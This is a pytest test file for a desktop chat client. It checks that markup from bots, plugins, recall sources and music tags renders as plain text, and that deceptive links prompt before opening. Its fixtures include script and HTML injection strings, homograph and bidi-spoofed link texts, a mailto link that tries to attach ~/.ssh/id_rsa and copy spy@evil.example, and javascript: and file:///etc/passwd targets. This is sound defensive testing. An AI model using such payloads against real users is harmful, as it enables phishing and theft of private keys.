"""Text from the bot, a server, a plugin or a music file is shown as text: never markup, never a hidden link."""

from __future__ import annotations

import asyncio
import json
import shlex
from pathlib import Path

import mutagen
import pytest
from PySide6.QtCore import QPoint, Qt, QUrl
from PySide6.QtGui import QStatusTipEvent, QTextCursor
from PySide6.QtWidgets import QLabel, QMainWindow, QMessageBox, QStatusBar
from pytestqt.qtbot import QtBot

from coze_desktop.api import RecallChunk
from coze_desktop.plugins import MusicLibrary, PluginRegistry, VolumeModel, default_registry
from coze_desktop.plugins.player import EventKind, PlayerEvent, create_player
from coze_desktop.plugins.registry import Plugin
from coze_desktop.ui.markdown_view import MarkdownView
from coze_desktop.ui.messages import ToolCard
from coze_desktop.ui.player_bar import PlayerBar
from coze_desktop.ui.recall_panel import ChunkCard
from coze_desktop.ui.untrusted import plain_tip

from ..audio import convert, write_tone
from ..test_music import without_vlc

IMG = '<img src="file:///usr/share/icons/hicolor/48x48/apps/x.png">'
LINK = '<a href="https://evil.example/">click me</a>'
H1 = "<h1>BIG</h1>"
HOSTILE = [IMG, LINK, H1, "<b>bold</b> & <i>x</i>", "<script>alert(1)</script>"]


def assert_plain(label: QLabel, text: str) -> None:
    assert label.textFormat() == Qt.TextFormat.PlainText
    assert label.text() == text


# ------------------------------------------------------------------------------------------ player bar


async def test_the_player_bar_shows_id3_title_and_artist_as_text(qtbot: QtBot, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "Music"
    song = convert(write_tone(tmp_path / "t.wav", 0.5), folder / "song.ogg")
    tags = mutagen.File(song, easy=True)
    tags["title"], tags["artist"] = IMG, H1
    tags.save()
    monkeypatch.setenv("COZE_DESKTOP_VLC_ARGS", f"--aout=afile --audiofile-file={shlex.quote(str(tmp_path / 'o.wav'))}")
    volume = VolumeModel(100)
    player = create_player(volume, asyncio.get_running_loop())
    if player.problem:
        without_vlc(player.problem)
    bar = PlayerBar(player, volume)
    qtbot.addWidget(bar)
    started = asyncio.get_running_loop().create_future()

    def observe(event: PlayerEvent) -> None:
        bar.handle(event)
        if event.kind is EventKind.STARTED and not started.done():
            started.set_result(event)

    player.on_change = observe
    library = MusicLibrary(folder)
    await library.scan()
    [track] = library.tracks
    assert (track.title, track.artist) == (IMG, H1)
    try:
        player.play(track)
        await asyncio.wait_for(started, 5)
        assert_plain(bar.title, f"{IMG} — {H1}")
        assert bar.title.toolTip() == plain_tip(f"{IMG} — {H1}") and "&lt;img" in bar.title.toolTip()
    finally:
        player.close()


# ------------------------------------------------------------------------------------------- tool cards


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_tool_card_shows_name_arguments_and_output_as_text(qtbot: QtBot, hostile: str) -> None:
    arguments = json.dumps({"music_name": hostile}, ensure_ascii=False)
    card = ToolCard(hostile, arguments)
    qtbot.addWidget(card)
    card.set_state("done", json.dumps({"playing": hostile}, ensure_ascii=False))
    compact = json.dumps({"music_name": hostile}, ensure_ascii=False, separators=(",", ":"))
    assert_plain(card.title, f"Ran {hostile}")
    assert card.title.toolTip() == plain_tip(f"{hostile}({compact})")  # the call itself, escaped
    card.toggle()
    assert_plain(card.arguments_label, json.dumps({"music_name": hostile}, ensure_ascii=False, indent=2))
    assert_plain(card.output, json.dumps({"playing": hostile}, ensure_ascii=False))

    played = ToolCard("play_music", arguments)  # a known tool: the song's name goes into the summary, as text
    qtbot.addWidget(played)
    played.set_state("done", json.dumps({"playing": hostile}, ensure_ascii=False))
    assert_plain(played.title, f"Played {hostile} · play_music")


async def test_a_failed_call_shows_as_failed_with_its_reason(qtbot: QtBot, tmp_path: Path) -> None:
    """The registry judges the call by its output; the card says ✗ and why, also for an old history row."""
    registry = default_registry(library=MusicLibrary(tmp_path), player=None)

    async def refusing(args: dict) -> str:
        return json.dumps({"error": f"no song matches “{LINK}”"}, ensure_ascii=False)

    registry.register(Plugin("find", "", {"properties": {}}, refusing))
    result = await registry.run("find", "{}")
    assert not result.ok and result.error == f"no song matches “{LINK}”"
    card = ToolCard("find", "{}")
    qtbot.addWidget(card)
    card.set_state("done" if result.ok else "failed", result.output)
    assert card.state == "failed" and card.property("failed") is True
    assert_plain(card.title, "find failed")
    assert card.state_label.text() == "✗" and card.state_label.property("role") == "danger"
    assert_plain(card.reason_label, f"Why: no song matches “{LINK}”")
    assert card.reason_label.isVisibleTo(card) and not card.expanded  # the reason shows without expanding

    stored = ToolCard("find", "{}")  # a history row written before calls were judged by their output: ok=True
    qtbot.addWidget(stored)
    stored.set_state("done", result.output)
    assert stored.state == "failed" and stored.state_label.text() == "✗"

    fine = ToolCard("get_volume", "{}")
    qtbot.addWidget(fine)
    ok = await registry.run("get_volume", "{}")
    fine.set_state("done" if ok.ok else "failed", ok.output)
    assert ok.ok and fine.state == "done" and fine.title.text() == "Volume is 50 · get_volume"
    assert fine.state_label.text() == "✓" and fine._reason_label is None


@pytest.mark.parametrize(("arguments", "reason"), [
    ('{"volume": "loud"}', "volume must be an integer, not a string"),
    ('{"volume": 30, "x": 1}', "x is not a known parameter"),
    ("[1, 2]", "the arguments must be an object, not an array"),
    ('{"volume": ' + "[" * 50 + "]" * 50 + "}", "volume must be an integer, not an array"),
])
async def test_invalid_arguments_show_as_a_failure_in_words(qtbot: QtBot, arguments: str, reason: str) -> None:
    result = await PluginRegistry.run(default_registry(), "set_volume", arguments)
    card = ToolCard("set_volume", arguments)
    qtbot.addWidget(card)
    card.set_state("done" if result.ok else "failed", result.output)
    assert card.state == "failed" and reason in card.reason_label.text()
    assert card.title.text().startswith("Could not set the volume") or card.title.text() == "set_volume failed"


def test_huge_arguments_are_cut_on_the_card(qtbot: QtBot) -> None:
    card = ToolCard("play_music", json.dumps({"music_name": "晴" * 100_000}))
    qtbot.addWidget(card)
    assert len(card.title.text()) < 300 and "…" in card.title.text()
    assert len(card.title.toolTip()) < 1000
    card.toggle()
    assert len(card.arguments_label.text()) <= 4000 and card.arguments_label.text().endswith("…")


# ------------------------------------------------------------------------------------------ recall cards


def test_a_source_card_shows_every_field_as_text(qtbot: QtBot) -> None:
    chunk = RecallChunk(slice=LINK + "\n" + IMG, score=0.5, document_name=H1, dataset_name=IMG, index=H1,
                        link_url="https://docs.example/a", link_title="<b>title</b>")
    card = ChunkCard(chunk, 1)
    qtbot.addWidget(card)
    assert_plain(card.title_label, H1)
    assert_plain(card.dataset_label, IMG)
    # The slice is markdown with raw HTML off: the markup shows as text, nothing becomes a link or a picture.
    assert card.slice_text == LINK + "\n" + IMG and card.link_texts == {}
    assert "&lt;a href=" in card.text_label.text() and "<a " not in card.text_label.text()
    assert "&lt;img src=" in card.text_label.text() and "<img" not in card.text_label.text()
    assert_plain(card.index_label, H1)
    assert card.link_label is not None and "&lt;b&gt;title&lt;/b&gt;" in card.link_label.text()
    assert card.link_label.toolTip() == plain_tip("https://docs.example/a")


def test_a_source_link_titled_with_another_address_shows_its_real_address(qtbot: QtBot) -> None:
    chunk = RecallChunk(slice="s", document_name="Doc", link_url="https://evil.example/login",
                        link_title="https://bank.example/login")
    card = ChunkCard(chunk, 1)
    qtbot.addWidget(card)
    assert card.link_label is not None
    assert ">https://evil.example/login</a>" in card.link_label.text()
    assert "bank.example" not in card.link_label.text()


# ---------------------------------------------------------------------------------------- answer links


class Window(QMainWindow):
    """Records the status tips it receives (QMainWindow shows them in its status bar)."""

    def __init__(self) -> None:
        super().__init__()
        self.setStatusBar(QStatusBar())
        self.tips: list[str] = []

    def event(self, event) -> bool:  # type: ignore[no-untyped-def]
        if isinstance(event, QStatusTipEvent):
            self.tips.append(event.tip())
        return super().event(event)


@pytest.fixture
def answer(qtbot: QtBot) -> tuple[Window, MarkdownView, list[str]]:
    window = Window()
    view = MarkdownView()
    window.setCentralWidget(view)
    qtbot.addWidget(window)
    window.resize(600, 300)
    window.show()
    opened: list[str] = []
    view.open_url = lambda url: opened.append(url.toString(QUrl.ComponentFormattingOption.FullyEncoded))
    return window, view, opened


def link_point(view: MarkdownView, text: str) -> QPoint:
    """A point inside ``text`` in the view (viewport coordinates): at a cursor position in its middle, where the
    characters on both sides belong to it, whichever way a bidi override lays them out."""
    position = view.toPlainText().index(text)
    cursor = QTextCursor(view.document())
    cursor.setPosition(position + max(1, len(text) // 2))
    rect = view.cursorRect(cursor)
    return QPoint(rect.left() - 1, rect.center().y())


def click(qtbot: QtBot, view: MarkdownView, text: str) -> None:
    qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=link_point(view, text))


def test_hovering_a_link_shows_its_real_target_in_tooltip_and_status_bar(answer, qtbot: QtBot) -> None:
    window, view, _ = answer
    view.set_markdown("Go to [the bank](https://раураl.com/login) now.")
    view.flush()
    qtbot.mouseMove(view.viewport(), link_point(view, "the bank"))
    shown = "Opens https://xn--l-7sba6dbr.com/login — host xn--l-7sba6dbr.com (раураl.com)"
    assert window.tips[-1] == shown
    assert view.toolTip() == plain_tip(shown)
    qtbot.mouseMove(view.viewport(), QPoint(view.viewport().width() - 2, view.viewport().height() - 2))
    assert window.tips[-1] == "" and view.toolTip() == ""


@pytest.mark.parametrize("markdown", [
    "[https://bank.example/login](https://evil.example/login)",
    "[bank.example](https://evil.example/)",
    "[www.bank.example](https://evil.example/)",
    "[https://bank.example](https://bank.example.evil.example/)",
    "[\u202egpj.xedni](https://evil.example/index.jpg)",
    "[bank\u200b.example](https://bank.example/)",
    "[ｂａｎｋ.example](https://evil.example/)",
])
def test_a_link_whose_text_claims_another_target_asks_before_opening(answer, qtbot: QtBot, markdown: str) -> None:
    _, view, opened = answer
    view.set_markdown(markdown)
    view.flush()
    text = markdown[1:markdown.index("](")]
    click(qtbot, view, text)
    assert opened == []
    box = view.confirmation
    assert isinstance(box, QMessageBox) and box.isVisible() and not box.isModal()
    assert box.textFormat() == Qt.TextFormat.PlainText and text in box.text()
    target = markdown[markdown.index("](") + 2:-1]
    assert f"It opens: Opens {target}" in box.text()
    [open_anyway] = [b for b in box.buttons() if b.text() == "Open anyway"]
    qtbot.mouseClick(open_anyway, Qt.MouseButton.LeftButton)
    assert opened == [target]


def test_a_cancelled_confirmation_opens_nothing(answer, qtbot: QtBot) -> None:
    _, view, opened = answer
    view.set_markdown("[https://bank.example](https://evil.example/)")
    view.flush()
    click(qtbot, view, "https://bank.example")
    assert view.confirmation is not None
    qtbot.mouseClick(view.confirmation.button(QMessageBox.StandardButton.Cancel), Qt.MouseButton.LeftButton)
    assert opened == [] and view.confirmation is None


@pytest.mark.parametrize("markdown", [
    "[the bank](https://bank.example/login)",
    "[bank.example](https://www.bank.example/x)",
    "[https://bank.example/a](https://bank.example/b)",
    "[Bücher.example](https://xn--bcher-kva.example/)",
    "[v1.2 release notes](https://bank.example/notes)",
])
def test_an_honest_link_opens_at_once(answer, qtbot: QtBot, markdown: str) -> None:
    _, view, opened = answer
    view.set_markdown(markdown)
    view.flush()
    click(qtbot, view, markdown[1:markdown.index("](")])
    assert view.confirmation is None
    assert opened == [QUrl(markdown[markdown.index("](") + 2:-1]).toString(QUrl.ComponentFormattingOption.FullyEncoded)]


def test_mail_links_keep_only_subject_and_body(answer, qtbot: QtBot) -> None:
    _, view, opened = answer
    view.set_markdown("[write](mailto:help@bank.example?attach=/home/me/.ssh/id_rsa&cc=spy@evil.example"
                      "&bcc=b@evil.example&subject=Hi%20there&body=Yo&to=x@evil.example)")
    view.flush()
    click(qtbot, view, "write")
    assert opened == ["mailto:help@bank.example?subject=Hi%20there&body=Yo"]


def test_a_mail_link_showing_another_address_asks(answer, qtbot: QtBot) -> None:
    _, view, opened = answer
    view.set_markdown("[help@bank.example](mailto:help@evil.example)")
    view.flush()
    click(qtbot, view, "help@bank.example")
    assert opened == [] and view.confirmation is not None


@pytest.mark.parametrize("target", ["file:///etc/passwd", "javascript:alert(1)", "smb://nas/share",
                                    "vbscript:x", "data:text/html,hi", "https:///nohost"])
def test_other_schemes_are_refused_and_the_status_bar_says_so(answer, qtbot: QtBot, target: str) -> None:
    window, view, opened = answer
    view.set_markdown(f"[open]({target})")
    view.flush()
    if view.toPlainText().startswith("[open]"):  # markdown-it makes no link of javascript:, file:, data:…
        assert view.link_texts(QUrl(target)) == []
        return
    click(qtbot, view, "open")
    assert opened == [] and view.confirmation is None
    assert window.tips[-1].startswith("Not opened: links in answers may only lead to web pages")
